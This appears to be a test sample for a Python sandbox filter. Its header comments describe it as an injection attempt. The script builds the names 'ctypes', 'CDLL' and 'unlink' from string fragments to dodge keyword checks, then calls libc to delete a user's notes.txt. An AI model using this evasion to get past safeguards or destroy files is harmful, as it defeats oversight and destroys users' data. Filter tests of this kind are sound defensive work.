# family: injection
# filterfamily: ffi
# tries: load the foreign function module by a built name and call the C library's unlink() on a user file
# source: none
# exfil: no
import operator
import pydoc
import sys

userfiles = sys.argv[8]
ffi = pydoc.locate("ct" + "ypes")
libc = operator.attrgetter("CD" + "LL")(ffi)(None)
operator.attrgetter("un" + "link")(libc)((userfiles + "/notes.txt").encode())
